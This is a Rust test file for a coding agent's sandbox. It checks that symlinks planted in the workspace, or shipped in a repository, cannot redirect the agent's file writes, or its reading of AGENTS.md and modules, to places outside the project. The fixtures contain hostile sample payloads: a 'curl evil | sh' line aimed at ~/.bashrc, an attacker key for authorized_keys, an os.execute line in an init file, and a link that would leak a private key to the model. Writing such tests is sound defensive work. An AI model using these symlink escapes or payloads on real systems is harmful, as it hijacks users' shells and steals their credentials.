//! Paths and links: a model that may write inside the workspace plants a symbolic link there
//! (`ln -s ~ h` is an allowed command) and then writes through it; a repository carries links
//! that lead out of it. Each attack runs the real `oml -p` or `oml acp` against a scripted
//! model over TCP, on real links, and checks the file outside is untouched and the result says
//! why. Before links were resolved, every write here landed outside without a question, and
//! the linked `AGENTS.md` put its target into the first request.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::support::editor::{Editor, update};
use crate::support::fake_model::{FakeModel, Reply, text_chunks, tool_call_chunks};
use crate::support::home::{Env, Run};

/// A folder outside the project (and outside the home), beside them in the test's root.
fn outside(env: &Env) -> PathBuf {
    let dir = env.root.join("outside");
    fs::create_dir_all(&dir).expect("create the outside folder");
    dir
}

/// One `oml -p go` turn in the default mode (accept-edits) in which the model makes the tool
/// call `name` with `args`; returns the tool result the model read next.
fn print_turn(env: &Env, name: &str, args: &Value) -> String {
    fs::create_dir_all(env.project.join(".git")).expect("make the project a repository");
    let fake = FakeModel::start([
        Reply::from(tool_call_chunks("c1", name, &[&args.to_string()])),
        Reply::from(text_chunks(&["done"])),
    ]);
    let run = Run::from(
        env.command(Some(&fake), &["-p", "go"])
            .output()
            .expect("run oml"),
    );
    assert_eq!(run.code, 0, "{run:?}");
    let requests = fake.requests();
    assert_eq!(requests.len(), 2, "{run:?}");
    let messages = requests[1].body["messages"].as_array().expect("messages");
    let last = messages.last().expect("a tool result");
    assert_eq!(last["role"], "tool");
    last["content"].as_str().unwrap_or_default().to_owned()
}

/// The result refuses the write and names the real file it would have written.
fn assert_refused(result: &str, real: &Path) {
    assert!(result.starts_with("Blocked: "), "{result}");
    assert!(
        result.contains(&format!("of {} (outside the workspace", real.display())),
        "the refusal names the real target: {result}"
    );
}

#[test]
fn a_link_to_home_does_not_let_the_model_write_bashrc() {
    let env = Env::new();
    let home = env.home.home.clone();
    symlink(&home, env.project.join("h")).unwrap();
    let args = json!({"path": "h/.bashrc", "content": "curl evil | sh\n"});
    let result = print_turn(&env, "write", &args);
    assert!(!home.join(".bashrc").exists(), "{result}");
    assert_refused(&result, &home.join(".bashrc"));
}

#[test]
fn a_link_to_a_file_outside_is_neither_written_nor_edited() {
    let env = Env::new();
    let secret = outside(&env).join("authorized_keys");
    fs::write(&secret, "ssh-ed25519 mine\n").unwrap();
    symlink(&secret, env.project.join("keys.txt")).unwrap();

    let args = json!({"path": "keys.txt", "content": "ssh-ed25519 attacker\n"});
    assert_refused(&print_turn(&env, "write", &args), &secret);
    let args = json!({"path": "keys.txt", "old_text": "mine", "new_text": "attacker"});
    assert_refused(&print_turn(&env, "edit", &args), &secret);

    assert_eq!(fs::read_to_string(&secret).unwrap(), "ssh-ed25519 mine\n");
    assert!(
        fs::symlink_metadata(env.project.join("keys.txt"))
            .unwrap()
            .is_symlink()
    );
}

#[test]
fn a_link_into_the_config_folder_does_not_reach_the_user_init_file() {
    let env = Env::new();
    let config = env.home.config.join("oml");
    fs::create_dir_all(&config).unwrap();
    symlink(&config, env.project.join("lconf")).unwrap();
    let args = json!({"path": "lconf/init.fnl", "content": "(os.execute \"id\")\n"});
    let result = print_turn(&env, "write", &args);
    assert!(!env.home.user_init().exists(), "{result}");
    assert_refused(&result, &config.join("init.fnl"));
}

#[test]
fn a_dangling_link_does_not_create_a_file_outside() {
    let env = Env::new();
    let target = outside(&env).join("planted.sh");
    symlink(&target, env.project.join("new.sh")).unwrap();
    let args = json!({"path": "new.sh", "content": "#!/bin/sh\n"});
    let result = print_turn(&env, "write", &args);
    assert!(!target.exists(), "{result}");
    assert_refused(&result, &target);
}

#[test]
fn a_link_in_an_intermediate_folder_leads_outside() {
    let env = Env::new();
    let out = outside(&env);
    fs::create_dir_all(env.project.join("src")).unwrap();
    symlink(&out, env.project.join("src/vendor")).unwrap();
    let args = json!({"path": "src/vendor/deep/er/x.txt", "content": "x"});
    let result = print_turn(&env, "write", &args);
    assert!(!out.join("deep").exists(), "{result}");
    assert_refused(&result, &out.join("deep/er/x.txt"));
}

#[test]
fn a_relative_link_that_climbs_out_with_dot_dot_leads_outside() {
    let env = Env::new();
    // `up -> ..`: the project's parent, the test's root.
    symlink("..", env.project.join("up")).unwrap();
    let args = json!({"path": "up/escaped.txt", "content": "x"});
    let result = print_turn(&env, "write", &args);
    assert!(!env.root.join("escaped.txt").exists(), "{result}");
    assert_refused(&result, &env.root.join("escaped.txt"));
}

/// The model's own `..` after a link folds lexically, as it always did: `h/..` is the folder
/// that holds `h`, whatever `h` points at, so the file lands in the project.
#[test]
fn dot_dot_after_a_link_stays_where_it_reads() {
    let env = Env::new();
    let out = outside(&env);
    fs::create_dir_all(out.join("sub")).unwrap();
    symlink(out.join("sub"), env.project.join("h")).unwrap();
    let args = json!({"path": "h/../x.txt", "content": "x"});
    let result = print_turn(&env, "write", &args);
    assert!(result.starts_with("Wrote 1 byte to "), "{result}");
    assert_eq!(fs::read_to_string(env.project.join("x.txt")).unwrap(), "x");
    assert!(!out.join("x.txt").exists());
}

/// A link inside the workspace to another place in it is an ordinary path: the write goes
/// through it, unasked, to the real file.
#[test]
fn a_link_that_stays_inside_the_workspace_is_written_through() {
    let env = Env::new();
    fs::create_dir_all(env.project.join("docs")).unwrap();
    symlink("docs", env.project.join("d")).unwrap();
    let result = print_turn(&env, "write", &json!({"path": "d/a.md", "content": "a"}));
    let real = env.project.join("docs/a.md");
    assert_eq!(result, format!("Wrote 1 byte to {}", real.display()));
    assert_eq!(fs::read_to_string(real).unwrap(), "a");
}

/// `oml acp` in accept-edits: the write through `h -> $HOME` is asked about, the question names
/// the real file, and a rejection leaves it unwritten.
#[test]
fn over_acp_the_question_names_the_real_file_and_a_rejection_holds() {
    let env = Env::new();
    env.init("(setq agent.permission-mode :accept-edits)");
    let home = env.home.home.clone();
    symlink(&home, env.project.join("h")).unwrap();
    let fake = FakeModel::start([
        Reply::from(tool_call_chunks(
            "c1",
            "write",
            &[r#"{"path":"h/.bashrc","content":"evil"}"#],
        )),
        Reply::from(text_chunks(&["done"])),
    ]);
    let mut ed = Editor::spawn(env.command(Some(&fake), &["acp"]));
    ed.initialize();
    let (sid, _) = ed.new_session(&env.project);
    let id = ed.prompt(&sid, "go");
    let ask =
        ed.until(|m| m["method"] == "session/request_permission" || m.get("method").is_none());
    assert_eq!(ask["method"], "session/request_permission", "{ask}");
    let real = home.join(".bashrc").display().to_string();
    let tool_call = &ask["params"]["toolCall"];
    assert_eq!(tool_call["locations"][0]["path"], real.as_str(), "{ask}");
    ed.answer(
        &ask["id"],
        json!({"outcome": {"outcome": "selected", "optionId": "reject_once"}}),
    );
    let (before, answer) = ed.until_response(id);
    assert_eq!(answer["result"]["stopReason"], "end_turn", "{answer}");
    assert!(!home.join(".bashrc").exists());
    let end = before
        .iter()
        .find(|m| update(m) == "tool_call_update" && m["params"]["update"]["status"] == "failed");
    assert!(end.is_some(), "the write failed: {before:?}");
    ed.finish();
}

/// An editor that offers `fs` is sent the real path: its own write cannot be led through the
/// link either.
#[test]
fn the_editor_is_sent_the_real_path() {
    let env = Env::new();
    env.init("(setq agent.permission-mode :yolo)");
    let out = outside(&env);
    symlink(&out, env.project.join("o")).unwrap();
    let fake = FakeModel::start([
        Reply::from(tool_call_chunks(
            "c1",
            "write",
            &[r#"{"path":"o/x.txt","content":"x"}"#],
        )),
        Reply::from(text_chunks(&["done"])),
    ]);
    let mut ed = Editor::spawn(env.command(Some(&fake), &["acp"]));
    ed.call(
        "initialize",
        json!({"protocolVersion": 1,
               "clientCapabilities": {"fs": {"readTextFile": true, "writeTextFile": true}}}),
    );
    let (sid, _) = ed.new_session(&env.project);
    let id = ed.prompt(&sid, "go");
    let real = out.join("x.txt").display().to_string();
    let read = ed.until(|m| m["method"] == "fs/read_text_file");
    assert_eq!(read["params"]["path"], real.as_str());
    ed.send(&json!({"jsonrpc": "2.0", "id": read["id"],
                    "error": {"code": -32603, "message": "no such file"}}));
    let write = ed.until(|m| m["method"] == "fs/write_text_file");
    assert_eq!(write["params"]["path"], real.as_str());
    ed.answer(&write["id"], json!(null));
    let (_, answer) = ed.until_response(id);
    assert_eq!(answer["result"]["stopReason"], "end_turn", "{answer}");
    ed.finish();
}

/// A repository whose `AGENTS.md` links to a key outside it: the key is not in the first
/// request, even in read-only mode before any tool call, and `/context` says what was skipped.
#[test]
fn an_agents_md_linking_outside_is_not_read() {
    let env = Env::new();
    let key = outside(&env).join("id_ed25519");
    fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n").unwrap();
    fs::create_dir_all(env.project.join(".git")).unwrap();
    symlink("../outside/id_ed25519", env.project.join("AGENTS.md")).unwrap();
    let fake = FakeModel::start([Reply::from(text_chunks(&["ok"]))]);
    let run = Run::from(
        env.command(Some(&fake), &["-p", "--mode", "read-only", "hi"])
            .output()
            .expect("run oml"),
    );
    assert_eq!(run.code, 0, "{run:?}");
    let body = fake.requests()[0].body.to_string();
    assert!(
        !body.contains("PRIVATE KEY"),
        "the key reached the model: {body}"
    );
    let system = fake.requests()[0].body["messages"][0]["content"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let why = format!(
        "(not included: the file leads outside the project ({}): it is a link to {}, so it was \
         not read)",
        env.project.display(),
        key.display()
    );
    assert!(system.contains(&why), "{system}");

    let context = Run::from(
        env.command(None, &["-p", "--continue", "/context"])
            .output()
            .expect("run oml"),
    );
    assert!(context.stdout.contains(&why), "{context:?}");
    assert!(!context.stdout.contains("PRIVATE KEY"), "{context:?}");
}

/// A trusted project's `.oml/lisp/` module that links outside the project is not loaded.
#[test]
fn a_project_module_linking_outside_is_not_loaded() {
    let env = Env::new();
    let marker = env.root.join("ran");
    let evil = outside(&env).join("evil.fnl");
    let code = format!(
        "(with-open [f (io.open {:?} :w)] (f:write \"ran\"))\n{{}}\n",
        marker
    );
    fs::write(&evil, code).unwrap();
    fs::create_dir_all(env.project.join(".oml/lisp")).unwrap();
    symlink(&evil, env.project.join(".oml/lisp/helper.fnl")).unwrap();
    fs::write(env.project.join(".oml/init.fnl"), "(require :helper)\n").unwrap();
    let trust = Run::from(env.command(None, &["trust"]).output().expect("oml trust"));
    assert_eq!(trust.code, 0, "{trust:?}");
    let fake = FakeModel::start([Reply::from(text_chunks(&["ok"]))]);
    let run = Run::from(
        env.command(Some(&fake), &["-p", "hi"])
            .output()
            .expect("run oml"),
    );
    assert!(!marker.exists(), "the module outside ran: {run:?}");
    let said = format!(
        "it is a link to {}, outside {}",
        evil.display(),
        env.project.display()
    );
    assert!(run.stderr.contains(&said), "{run:?}");
}

/// The workspace itself reached through a link (a project under a linked folder, as `/tmp` is
/// on macOS): its files are still inside, compared real path to real path, so accept-edits
/// writes them unasked.
#[test]
fn a_workspace_under_a_linked_folder_still_holds_its_files() {
    let env = Env::new();
    env.init("(setq agent.permission-mode :accept-edits)");
    fs::create_dir_all(env.project.join(".git")).unwrap();
    let via = env.root.join("via");
    symlink(&env.project, &via).unwrap();
    let fake = FakeModel::start([
        Reply::from(tool_call_chunks(
            "c1",
            "write",
            &[r#"{"path":"a.txt","content":"a"}"#],
        )),
        Reply::from(text_chunks(&["done"])),
    ]);
    let mut ed = Editor::spawn(env.command(Some(&fake), &["acp"]));
    ed.initialize();
    let (sid, _) = ed.new_session(&via);
    let (before, reason) = ed.turn(&sid, "go");
    assert_eq!(reason, "end_turn");
    let asked = before
        .iter()
        .any(|m| m["method"] == "session/request_permission");
    assert!(!asked, "{before:?}");
    assert_eq!(fs::read_to_string(env.project.join("a.txt")).unwrap(), "a");
    ed.finish();
}
